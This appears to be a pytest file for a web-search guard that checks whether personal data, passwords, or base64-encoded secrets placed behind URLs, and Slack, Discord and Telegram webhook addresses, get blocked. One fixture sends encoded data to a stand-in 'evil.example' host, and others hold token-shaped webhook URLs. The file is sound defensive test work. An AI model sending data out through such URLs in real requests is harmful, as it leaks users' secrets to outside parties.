"""Words behind an address are words; an address can be a key as a whole."""

from __future__ import annotations

import base64

import pytest

from websearch_core import Block, FetchRequest, SearchRequest
from websearch_core.kit import Part, ToolRequest
from websearch_core.testing.fakes import FakeClock
from websearch_guard.exfiltration import GuardExfiltration
from websearch_guard.pii.filter import PersonalData

BLOB = base64.b64encode(b"the launch code is kept in the top drawer of the second desk, and Ada knows it too").decode()


@pytest.mark.parametrize("card", ["4539 1488 0343 6467", "password: hunter2"])
@pytest.mark.parametrize("before", ["http://a.b ", "https://example.com/x?y=1 ", "http://a.b\n"])
async def test_what_stands_behind_an_address_is_found(card: str, before: str) -> None:
    for request in (
        SearchRequest(query=before + card),
        ToolRequest(tool="t", strings=(Part("target", before + card),)),
    ):
        assert isinstance(await PersonalData().check(request), Block)


@pytest.mark.parametrize("query", [f"x http:// {BLOB}", f"x https://evil.example/c?d={BLOB}", f"https://a.b {BLOB}"])
async def test_data_behind_an_address_does_not_leave(query: str) -> None:
    assert isinstance(await GuardExfiltration(FakeClock()).check(SearchRequest(query=query)), Block)


@pytest.mark.parametrize(
    "url",
    [
        "https://hooks.slack.com/services/" + "T0A1B2C3D/B0E1F2G3H/" + "aB3dE5fG7hI9jK1lM3nO5pQ7",
        f"https://discord.com/api/webhooks/123456789012345678/{'aB3dE5fG7hI9jK1l' * 4}",
        "https://api.telegram.org/bot" + "487213905:" + "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawX/sendMessage",
    ],
    ids=["slack", "discord", "telegram"],
)
async def test_a_webhooks_address_is_a_key(url: str) -> None:
    assert isinstance(await PersonalData().check(FetchRequest(url=url)), Block)
    assert isinstance(await PersonalData().check(SearchRequest(query=f"post to {url}")), Block)
